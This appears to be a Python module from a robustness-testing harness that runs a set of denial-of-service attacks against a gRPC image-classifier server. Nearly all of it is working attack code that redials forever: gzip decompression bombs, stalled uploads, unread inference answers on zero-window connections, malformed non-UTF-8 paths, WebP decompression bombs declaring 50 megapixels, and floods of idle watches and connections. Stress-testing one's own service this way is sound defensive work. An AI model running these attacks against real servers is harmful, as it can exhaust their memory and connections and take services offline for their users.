"""The attacks. Each goes on until it is cancelled, and dials again when the server has closed its connection.

Strangers have no token. A stolen token lets classify and see activations, and is a caller like any other.
"""

import asyncio
import gzip
import io
import itertools
from collections.abc import Awaitable, Callable, Mapping
from contextlib import suppress
from functools import cache
from typing import TypeAlias

from PIL import Image

from endurance.attacking import transport
from endurance.attacking.peer import LARGEST_WINDOW, Peer, dialled
from endurance.fuzzing import frames as h2
from endurance.fuzzing.connections import connected
from vitrine.oip import inference_pb2 as oip
from vitrine.v1 import classifier_pb2 as pb

Attack: TypeAlias = Callable[[str, str], Awaitable[None]]
"""An attack on HOST:PORT with a stolen token."""

CHECK, WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
INFER = "/inference.GRPCInferenceService/ModelInfer"
CLASSIFY = "/vitrine.v1.ClassifierService/Classify"

MIB = 1 << 20
LARGE = 63 * MIB
BOMBS, STALLED, UNREAD = 20, 40, 8
"""Calls of each of these attacks that are under way at all times."""

IMAGES = 1024
PATHS_PER_SECOND = 10
WATCHES, WATCHING, IDLE = 1000, 4, 1100
"""Watches of a connection, connections with watches, connections without a call."""

FILES = 2
"""Image files that are under way at all times."""

SIDE = 7071
"""Width and height of an image of 50 megapixels."""

PAUSE_SECONDS = 0.05
"""Pause before a connection is dialled again: an attacker who is locked out tries on, and must not spin itself."""


async def gzip_bombs(target: str, _: str) -> None:
    """Strangers' health checks of 64 KB that expand to 63 MiB."""

    async def send(peer: Peer) -> None:
        for stream in itertools.count(1, 2):
            peer.open(CHECK, stream, grpc_encoding="gzip")
            await peer.send(stream, _bomb())
            await peer.over(stream)

    await _repeated(BOMBS, send, target)


@cache
def _bomb() -> bytes:
    return h2.grpc_message(gzip.compress(bytes(LARGE)), compressed=1)


async def stalled_uploads(target: str, _: str) -> None:
    """Strangers' health checks of 64 MiB that stop 1 MiB before their end."""

    async def upload_and_stall(peer: Peer) -> None:
        peer.open(CHECK, 1)
        await peer.send(1, _cut_off(), last=False)
        await peer.over(1)

    await _repeated(STALLED, upload_and_stall, target)


@cache
def _cut_off() -> bytes:
    """The beginning of a message, one for all connections: they would fill this machine's memory, not the server's."""
    return h2.grpc_message(bytes(LARGE), length=LARGE + MIB)


async def unread_answers(target: str, token: str) -> None:
    """A thief's requests for all layers of 1,024 images, whose answers aren't read."""
    tensor = oip.ModelInferRequest.InferInputTensor(name="pixels", datatype="UINT8", shape=[IMAGES, 18, 18])
    request = oip.ModelInferRequest(inputs=[tensor], raw_input_contents=[bytes(IMAGES * 324)])
    message = h2.grpc_message(request.SerializeToString())

    async def ask_and_read_nothing(peer: Peer) -> None:
        for stream in range(1, 2 * UNREAD, 2):
            peer.open(INFER, stream, authorization=f"Bearer {token}")
            await peer.send(stream, message)
        await peer.ended()

    await _repeated(1, ask_and_read_nothing, target, window=0)


async def bad_paths(target: str, _: str) -> None:
    """Strangers' calls of a path that is no UTF-8, on connections of their own."""
    path = h2.headers_frame(h2.call_headers("/vitrine.v1/PATH"), 1, h2.END_HEADERS | h2.END_STREAM)
    while True:
        with suppress(OSError):
            async with connected(target) as (reader, writer):
                writer.write(h2.greeting() + path.replace(b"PATH", b"\xff\xfe\xfd\xfc"))
                await reader.read(h2.LARGEST_FRAME)
        await asyncio.sleep(1 / PATHS_PER_SECOND)


async def image_files(target: str, token: str) -> None:
    """A thief's WebP files of 2 KB that declare 50 megapixels and an orientation."""
    request = pb.ClassifyRequest(encoded=pb.EncodedImages(files=[_webp()]))
    message = h2.grpc_message(request.SerializeToString())

    async def send(peer: Peer) -> None:
        for stream in itertools.count(1, 2):
            peer.open(CLASSIFY, stream, authorization=f"Bearer {token}")
            await peer.send(stream, message)
            await peer.over(stream)

    await _repeated(FILES, send, target)


@cache
def _webp() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6  # the orientation: turned by 90 degrees
    file = io.BytesIO()
    Image.new("RGB", (SIDE, SIDE), "white").save(file, "WEBP", exif=exif, quality=1, method=0)
    return file.getvalue()


async def idle_watches(target: str, _: str) -> None:
    """Strangers who watch the health, a thousand times on each connection."""

    async def watch(peer: Peer) -> None:
        for stream in range(1, 2 * WATCHES, 2):
            peer.open(WATCH, stream)
            await peer.send(stream, h2.grpc_message(b""))
        await peer.ended()

    await _repeated(WATCHING, watch, target)


async def idle_connections(target: str, _: str) -> None:
    """Strangers who connect, greet, and stay."""
    await _repeated(IDLE, Peer.ended, target)


ATTACKS: Mapping[str, Attack] = {
    attack.__name__: attack
    for attack in (
        gzip_bombs,
        stalled_uploads,
        unread_answers,
        bad_paths,
        image_files,
        idle_watches,
        idle_connections,
        transport.slow_heads,
        transport.floods,
        transport.header_bombs,
        transport.half_closed,
        transport.unread_pages,
    )
}
"""All attacks, by their names."""


async def _repeated(
    count: int, once: Callable[[Peer], Awaitable[None]], target: str, window: int = LARGEST_WINDOW
) -> None:
    """So many connections at all times, on each of which `once` runs until the connection ends."""

    async def keep() -> None:
        while True:
            with suppress(OSError, EOFError):
                async with dialled(target, window) as peer:
                    await once(peer)
            await asyncio.sleep(PAUSE_SECONDS)

    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(keep())
